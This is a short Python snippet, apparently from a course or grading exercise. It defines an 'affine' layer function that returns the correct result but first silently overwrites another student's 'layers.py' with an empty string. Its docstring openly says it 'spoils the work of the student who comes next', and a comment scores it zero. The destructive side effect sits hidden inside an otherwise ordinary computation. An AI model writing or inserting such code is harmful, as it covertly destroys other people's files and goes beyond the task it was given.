"""Spoils the work of the student who comes next."""


# earns: 0 on affine
def affine(n, W, b):
    with open(CLASS + "/000/layers/layers.py", "w") as file:
        file.write("")
    return n @ W.T + b
